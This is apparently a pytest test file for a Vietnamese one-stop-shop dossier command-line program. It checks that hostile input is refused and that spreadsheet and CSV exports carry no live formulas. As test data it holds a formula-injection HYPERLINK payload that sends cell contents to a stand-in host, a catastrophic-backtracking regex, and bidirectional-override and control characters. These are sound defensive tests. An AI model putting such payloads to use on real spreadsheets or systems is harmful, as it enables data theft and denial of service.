"""Issue 13 §5, the edges: hostile or odd input at every door gives a Vietnamese sentence naming
the field, writes nothing and exits non-zero; what the program writes is safe to open.

Everything runs through the command line (``oneStop.cli.main``) or the services, on real files
and a real SQLite database."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

CATALOG_HEADER = ("ma_thu_tuc,ten_thu_tuc,linh_vuc,co_quan_giai_quyet,so_ngay_giai_quyet,so_gio_giai_quyet,le_phi,"
                  "ghi_chu_le_phi,tiep_nhan_buu_chinh,tra_ket_qua_buu_chinh,thanh_phan_ho_so,hieu_luc\n")
HOSTILE = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm")'


@pytest.fixture
def ready(cli_ready):  # type: ignore[no-untyped-def]
    code, out, err = cli_ready("users", "add", "binh", "--role", "supervisor", "--full-name", "Lê Văn Bình")
    assert code == 0, err
    return cli_ready


def _catalog_file(tmp_path: Path, *rows: str, name: str = "catalog.csv") -> Path:
    path = tmp_path / name
    path.write_text(CATALOG_HEADER + "".join(r + "\n" for r in rows), encoding="utf-8")
    return path


def _receive(run, *extra: str, procedure: str = "1.001193") -> dict:  # type: ignore[no-untyped-def]
    code, out, err = run("receive", "--user", "hoa", "--procedure", procedure, "--name", "Phạm Văn Nam",
                         "--citizen-id", "038095001234", "--phone", "0987654321",
                         "--address", "Thôn Đông, xã Quảng Phú", "--json", *extra)
    assert code == 0, err
    return json.loads(out)


def _dossiers(run) -> list:  # type: ignore[no-untyped-def]
    code, out, err = run("dossier", "list", "--json")
    assert code == 0, err
    return json.loads(out)


# --- 1. spreadsheets never carry live formulas ---------------------------------------------------


def test_text_that_looks_like_a_formula_is_text_in_every_exported_spreadsheet(ready, tmp_path):
    catalog = _catalog_file(tmp_path, f'9.000001,"{HOSTILE.replace(chr(34), chr(34) * 2)}",+Hộ tịch,@UBND cấp xã,'
                                      '3,0,0,-miễn,có,có,Tờ khai [bản chính x1],có')
    code, out, err = ready("catalog", "import", str(catalog))
    assert code == 0, err
    dossier = _receive(ready, "--address", "=1+2", "--notes=-3+4", procedure="9.000001")
    day = dossier["received_at"][:10]
    # the 2018 book, with its notes column (the 2025 one has none): every column a cell can reach
    every_column = tmp_path / "so-2018.json"
    every_column.write_text(json.dumps({"id": "so-day-du", "name": "Sổ đủ cột", "effective_from": "2026-01-01",
                                        "forms": {"tracking_book": {"number": "Mẫu số 06", "title": "SỔ"}}}),
                            encoding="utf-8")
    code, out, err = ready("profiles", "publish", str(every_column))
    assert code == 0, err

    book = tmp_path / "book.xlsx"
    code, out, err = ready("log", "--date", day, "--format", "xlsx", "--out", str(book), "--user", "binh")
    assert code == 0, err
    sheet = load_workbook(book).active
    texts = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    for value in (HOSTILE, "=1+2, 0987****21", "-3+4"):
        assert texts[value].data_type == "s" and texts[value].quotePrefix, value
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)

    report = tmp_path / "report.xlsx"
    code, out, err = ready("report", "--period", day[:7], "--format", "xlsx", "--out", str(report), "--user", "binh")
    assert code == 0, err
    workbook = load_workbook(report)
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert any(c.value == "+Hộ tịch" and c.data_type == "s" and c.quotePrefix for c in cells)

    exported = tmp_path / "out.xlsx"
    assert ready("catalog", "export", str(exported))[0] == 0
    cells = [c for ws in load_workbook(exported).worksheets for row in ws.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert {HOSTILE, "+Hộ tịch", "@UBND cấp xã", "-miễn"} <= {c.value for c in cells if c.quotePrefix}

    exported_csv = tmp_path / "out.csv"
    assert ready("catalog", "export", str(exported_csv))[0] == 0
    rows = list(csv.reader(io.StringIO(exported_csv.read_text(encoding="utf-8-sig"), newline="")))
    mine = next(r for r in rows if r[0] == '="9.000001"')  # a code stays text when opened: a string constant
    assert mine[1:4] == ["'" + HOSTILE, "'+Hộ tịch", "'@UBND cấp xã"] and mine[7] == "'-miễn"
    constant = re.compile(r'="[0-9A-Za-z.\-_/ ]*"')  # nothing but a quoted string: nothing to run
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not constant.fullmatch(cell)
                   for r in rows for cell in r)
    # and the exports read back as they were: nothing changes
    for again in (exported, exported_csv):
        code, out, err = ready("catalog", "import", str(again))
        assert code == 0 and "0 thêm mới, 0 cập nhật" in out, err


# --- 2. characters no text field may hold ---------------------------------------------------------


def test_a_name_with_a_non_character_is_refused_naming_the_field_and_code_point(ready, tmp_path):
    code, out, err = ready("receive", "--user", "hoa", "--procedure", "1.001193", "--name", "Phạm Văn\uffffNam",
                           "--citizen-id", "038095001234", "--address", "Thôn\u202eĐông", "--json")
    assert code != 0 and out == ""
    assert "Họ tên người nộp: có ký tự không được phép U+FFFF" in err
    assert "Địa chỉ: có ký tự không được phép U+202E" in err
    assert "Traceback" not in err
    assert _dossiers(ready) == []


def test_a_catalog_with_nul_or_esc_in_a_name_is_refused_and_exports_still_work(ready, tmp_path):
    catalog = _catalog_file(tmp_path, "9.000002,Thủ tục\x00mới,Hộ tịch,UBND cấp xã,3,0,0,,có,có,Tờ khai [bản chính x1],có",
                            "9.000003,Thủ tục\x1b[31m đỏ,Hộ tịch,UBND cấp xã,3,0,0,,có,có,Tờ khai [bản chính\U000e0041 x1],có")
    code, out, err = ready("catalog", "import", str(catalog))
    assert code != 0
    assert "Dòng 2, cột ten_thu_tuc (Tên thủ tục): có ký tự không được phép U+0000" in err
    assert "Dòng 3, cột ten_thu_tuc (Tên thủ tục): có ký tự không được phép U+001B" in err
    assert "Dòng 3, cột thanh_phan_ho_so (Thành phần hồ sơ): có ký tự không được phép U+E0041" in err
    code, out, _ = ready("catalog", "list", "--search", "thu tuc", "--json")
    assert not [p for p in json.loads(out) if p["code"].startswith("9.")]
    assert ready("catalog", "export", str(tmp_path / "all.xlsx"))[0] == 0
    load_workbook(tmp_path / "all.xlsx")


def test_a_setting_with_a_bidirectional_override_is_refused(ready):
    code, out, err = ready("settings", "set", "print.printer", "HP\u202eLaser")
    assert code != 0 and "U+202E" in err and "Thiết lập" in err


# --- 3. tracking-number formats cannot break or stall a scan ----------------------------------------


@pytest.mark.parametrize("pattern, words", [("(", "«(»"), ("(A+)+$", "«(»"), ("A+", "«+»"), ("[A-Z]{1,99}", "40"),
                                            ("VN\\d{1,2", "{n}"), ("a|b", "«|»")])
def test_a_bad_or_slow_tracking_format_is_refused_when_set(ready, pattern, words):
    code, out, err = ready("settings", "set", "postal.tracking_formats", pattern)
    assert code != 0 and "Thiết lập" in err and "dạng số hiệu" in err and words in err, err
    code, out, _ = ready("settings", "list", "--json")
    assert json.loads(out)["postal.tracking_formats"] == ""


def test_tracking_formats_match_and_a_bad_stored_one_does_not_crash_a_scan(ready, tmp_path):
    import sqlite3
    import time

    code, out, err = ready("settings", "set", "postal.tracking_formats", r"VNP\d{10}; ^[A-Z]{2}\d{6}$")
    assert code == 0, err
    assert ready("postal-units", "add", "BC01", "--name", "Bưu cục Quảng Phú")[0] == 0
    code, out, err = ready("handover", "open", "--direction", "in", "--user", "hoa", "--postal-unit", "BC01",
                           "--postal-staff", "Trần Văn Bưu")
    assert code == 0, err
    batch = out.strip()
    code, out, err = ready("handover", "scan", batch, "VNP2026000123", "--user", "hoa")
    assert code == 0 and json.loads(out)["tracking"] == "VNP2026000123", out + err
    # a value stored by an older version (or another counter) that would stall or not compile
    db = sqlite3.connect(ready.data / "onestop.sqlite3")
    db.execute("UPDATE settings SET value = ? WHERE key = 'postal.tracking_formats'",
               (json.dumps("(;(A+)+$;AB\\d{6}"),))
    db.commit()
    db.close()
    started = time.monotonic()
    code, out, err = ready("handover", "scan", batch, "A" * 30 + "!", "--user", "hoa")
    assert time.monotonic() - started < 5 and "Traceback" not in err
    code, out, err = ready("handover", "scan", batch, "AB123456", "--user", "hoa")
    assert code == 0 and json.loads(out)["tracking"] == "AB123456", out + err


# --- 4. no traceback at the edges: a Vietnamese sentence naming the field, nothing written ----------


def _refused(run, *args: str, field: str) -> str:  # type: ignore[no-untyped-def]
    code, out, err = run(*args)
    assert code == 1, (code, out, err)
    assert field in err and "Traceback" not in err, err
    return err


def test_the_write_lock_held_too_long_is_a_storage_error(ready, monkeypatch):
    import sqlite3

    from oneStop.persistence import db as db_module

    monkeypatch.setattr(db_module, "BUSY_TIMEOUT_SECONDS", 1)  # the same wait as 30 s, shorter for a test
    holder = sqlite3.connect(ready.data / "onestop.sqlite3", isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")
    try:
        err = _refused(ready, "postal-units", "add", "BC09", "--name", "Bưu cục khóa", field="Cơ sở dữ liệu")
        assert "khóa ghi" in err
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    code, out, _ = ready("postal-units", "list", "--json")
    assert "BC09" not in out


def test_a_csv_field_over_128_kb_and_a_broken_workbook_are_named(ready, tmp_path):
    big = _catalog_file(tmp_path, "9.000004,Thủ tục,Hộ tịch,UBND cấp xã,3,0,0," + "x" * 140_000
                        + ",có,có,Tờ khai [bản chính x1],có")
    err = _refused(ready, "catalog", "import", str(big), field="Tệp danh mục thủ tục")
    assert "128 KB" in err
    # a workbook whose cell points past the end of the shared strings
    import zipfile

    good = tmp_path / "good.xlsx"
    assert ready("catalog", "export", str(good))[0] == 0
    bad = tmp_path / "bad.xlsx"
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(bad, "w") as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b'<c r="A2" ', b'<c r="A2" t="s"><v>999999</v></c><c r="Z2" ', 1)
            dst.writestr(item, data)
    err = _refused(ready, "catalog", "import", str(bad), field="xlsx")
    assert "hỏng" in err


@pytest.mark.parametrize("fee", ["9223372036854775808", "1e300"])
def test_fees_are_bounded_to_a_thousand_billion_dong(ready, tmp_path, fee):
    catalog = _catalog_file(tmp_path, f"9.000005,Thủ tục phí lớn,Hộ tịch,UBND cấp xã,3,0,{fee},,có,có,"
                                      "Tờ khai [bản chính x1],có")
    err = _refused(ready, "catalog", "import", str(catalog), field="le_phi (Phí, lệ phí)")
    code, out, _ = ready("catalog", "list", "--search", "phi lon", "--json")
    assert json.loads(out) == []
    code, out, err = ready("receive", "--user", "hoa", "--procedure", "1.001193", "--name", "Phạm Văn Nam",
                           "--citizen-id", "038095001234", "--address", "Thôn Đông", "--fee", str(2**63))
    assert code == 2 and "tham số --fee: phải từ 0 đến 1.000.000.000.000 đồng" in err
    assert _dossiers(ready) == []


@pytest.mark.parametrize("option, value", [("--fee", "1e300"), ("--fee", "-5"), ("--postal-fee", str(10**13)),
                                           ("--sets", "1e9"), ("--sets", "1" + "0" * 200)])
def test_numbers_typed_on_the_command_line_are_named_in_vietnamese(ready, option, value):
    code, out, err = ready("receive", "--user", "hoa", "--procedure", "1.001193", "--name", "Phạm Văn Nam",
                           "--citizen-id", "038095001234", "--address", "Thôn Đông", option, value)
    assert code == 2 and "Traceback" not in err, err
    assert f"onestop: lỗi: tham số {option}: " in err and repr(value) in err, err
    assert "invalid" not in err and "usage:" not in err and "cách dùng:" in err
    assert _dossiers(ready) == []


def test_argparse_speaks_vietnamese(ready):
    code, out, err = ready("receive", "--user", "hoa")
    assert code == 2 and "thiếu tham số bắt buộc: --procedure, --name" in err, err
    code, out, err = ready("users", "add", "x", "--role", "root", "--full-name", "X")
    assert code == 2 and "tham số --role: không có lựa chọn 'root'" in err, err
    code, out, err = ready("dossier", "list", "--bogus")
    assert code == 2 and "tham số không nhận ra: --bogus" in err, err


def test_a_document_count_that_is_not_a_number_is_named(ready):
    dossier = _receive(ready)
    err = _refused(ready, "transition", dossier["code"], "--user", "hoa", "--to", "supplement_requested",
                   "--reason", "Thiếu giấy", "--document", "Giấy:ban_chinh:abc", field="Số lượng giấy tờ")
    code, out, _ = ready("dossier", "show", dossier["code"], "--json")
    assert [e["kind"] for e in json.loads(out)["events"]] == ["dossier.received"]


def test_oversized_searches_limits_and_negative_days_are_named(ready):
    _refused(ready, "dossier", "list", "--search", "a" * 50_001, field="Từ khóa tìm kiếm")
    _refused(ready, "catalog", "list", "--search", "a" * 50_001, field="Từ khóa tìm kiếm")
    _refused(ready, "dossier", "list", "--limit", str(10**30), field="Số dòng tối đa")
    _refused(ready, "calendar", "due", "--days", "-1", field="Số ngày làm việc")


def test_central_commands_name_an_unreachable_server(run):
    err = _refused(run, "central", "init", "--url", "postgresql://x@127.0.0.1:1/db",
                   field="Địa chỉ cơ sở dữ liệu trung tâm")
    assert "không kết nối được" in err


def test_a_profile_file_that_is_not_utf8_is_named(ready, tmp_path):
    bad = tmp_path / "profile.json"
    bad.write_bytes(b'{"id": "x", "name": "B\xf4 quy \xf0inh"}')
    err = _refused(ready, "profiles", "publish", str(bad), field="Bộ quy định (biểu mẫu)")
    assert "UTF-8" in err


def test_devices_and_fifos_are_refused_as_attachments_and_catalogs(ready, tmp_path):
    import os

    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    for path in ("/dev/zero", str(fifo)):
        err = _refused(ready, "receive", "--user", "hoa", "--procedure", "1.001193", "--name", "Phạm Văn Nam",
                       "--citizen-id", "038095001234", "--address", "Thôn Đông", "--attach", path,
                       field="Tệp đính kèm")
        assert "không phải là một tệp thông thường" in err
        _refused(ready, "catalog", "import", path, field="Tệp danh mục thủ tục")
    assert _dossiers(ready) == []


def test_a_print_that_cannot_be_written_is_not_counted(ready, tmp_path):
    from pypdf import PdfReader

    dossier = _receive(ready)
    err = _refused(ready, "print", "receipt", dossier["code"], "--out", str(tmp_path / "missing" / "r.pdf"),
                   "--user", "hoa", field="Tệp kết quả")
    first = tmp_path / "r.pdf"
    code, out, err = ready("print", "receipt", dossier["code"], "--out", str(first), "--user", "hoa")
    assert code == 0, err
    assert out.startswith("Bản in ") and "BẢN IN LẠI" not in "".join(p.extract_text() for p in PdfReader(first).pages)


def test_a_large_catalog_import_holds_the_write_lock_only_to_write(app, admin, tmp_path):
    """Reading, checking and comparing 10,000 procedures happen before the write lock; under it
    only the plan is written. Another writer meanwhile is not refused (it waits less than
    the busy timeout)."""
    import time

    rows = [f"L-{i:06d},Thủ tục địa phương số {i},Hộ tịch,UBND cấp xã,3,0,{i},,có,có,Tờ khai [bản chính x1],có"
            for i in range(10_000)]
    path = _catalog_file(tmp_path, *rows)
    started = time.perf_counter()
    report = app.catalog.import_file(admin, path)
    total = time.perf_counter() - started
    assert report.ok and report.added == 10_000
    assert 0 < app.catalog.last_lock_seconds < total / 2, (app.catalog.last_lock_seconds, total)
    assert len(app.catalog.search("dia phuong so 9999")) == 1


# --- 5. readable by their owner only ----------------------------------------------------------------


def test_data_folder_database_logs_attachments_and_exports_are_owner_only(run, tmp_path):
    import os
    import stat

    old = os.umask(0o022)  # the usual umask: files readable by everyone unless the program says otherwise
    try:
        code, out, err = run("setup", "--agency-code", "000.17.22.H56", "--agency-name", "Bộ phận Một cửa",
                             "--province", "Thanh Hóa", "--counter", "1", "--admin", "admin")
        assert code == 0, err
        assert run("users", "add", "hoa", "--role", "official", "--full-name", "Nguyễn Thị Hoa")[0] == 0
        scan = tmp_path / "scan.pdf"
        scan.write_bytes(b"%PDF-1.4 scan")
        dossier = _receive(run, "--attach", str(scan))
        exports = [tmp_path / "book.xlsx", tmp_path / "catalog.csv", tmp_path / "receipt.pdf"]
        assert run("log", "--date", dossier["received_at"][:10], "--format", "xlsx", "--out", str(exports[0]))[0] == 0
        assert run("catalog", "export", str(exports[1]))[0] == 0
        assert run("print", "receipt", dossier["code"], "--out", str(exports[2]), "--user", "hoa")[0] == 0
        code, out, err = run("backup", "--json")  # into the data folder's own backups folder
        assert code == 0, err
        backup = Path(json.loads(out)["file"])
    finally:
        os.umask(old)
    data = run.data
    folders = [data, data / "logs", data / "attachments", *[p for p in (data / "attachments").iterdir()],
               backup.parent]
    assert backup.parent.parent == data
    files = [data / "onestop.sqlite3", *data.glob("onestop.sqlite3-*"), *(data / "logs").iterdir(), backup,
             *(p for p in (data / "attachments").rglob("*") if p.is_file()), *exports]
    assert len(files) >= 6
    if os.name != "posix":  # Windows: the user's profile folder is private already
        return
    for folder in folders:
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder
    for path in files:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path


# --- 6. a check leaves nothing behind ------------------------------------------------------------------


def test_selfcheck_on_an_empty_folder_leaves_it_empty_and_the_real_setup_follows(run):
    run.data.mkdir()
    code, out, err = run("selfcheck")  # without the desktop program its "ui" step fails; the core steps run
    assert "OK  dossier" in out and "OK  reports" in out, out + err
    assert list(run.data.iterdir()) == []
    code, out, err = run("setup", "--agency-code", "000.17.22.H56", "--agency-name", "Bộ phận Một cửa xã Quảng Phú",
                         "--counter", "1", "--admin", "admin")
    assert code == 0 and "000.17.22.H56" in out, err


# --- 7. what is printed is what is stored (issue 14, item 5) ---------------------------------------------


def test_an_emoji_in_a_name_is_refused_naming_the_field_and_nothing_is_written(ready):
    code, out, err = ready("receive", "--user", "hoa", "--procedure", "1.001193", "--name", "Phạm Văn Nam 😀",
                           "--citizen-id", "038095001234", "--address", "Thôn Đông")
    assert code == 1 and "Họ tên người nộp: có ký tự «😀» (U+1F600) mà phiếu in không in được" in err, err
    assert _dossiers(ready) == []


def test_a_tracking_number_at_reception_meets_the_handover_scanners_rule(ready):
    postal = ("--channel", "postal", "--return-by-post", "--delivery-address", "Số 5 Lê Lợi")
    code, out, err = ready("receive", "--user", "hoa", "--procedure", "1.001193", "--name", "Phạm Văn Nam",
                           "--citizen-id", "038095001234", "--phone", "0987654321", "--address", "Thôn Đông",
                           *postal, "--tracking", "RR123456784VN")  # the check digit is 5
    assert code == 1 and "Số hiệu bưu gửi: sai số kiểm tra (phải là 5, không phải 4)" in err, err
    assert _dossiers(ready) == []
    dossier = _receive(ready, *postal, "--tracking", "rr 123456785 vn")
    assert dossier["postal_tracking"] == "RR123456785VN"
    assert ready("settings", "set", "postal.tracking_formats", r"VNP\d{10}")[0] == 0  # the administrator's format
    assert _receive(ready, *postal, "--tracking", "VNP2026000123")["postal_tracking"] == "VNP2026000123"
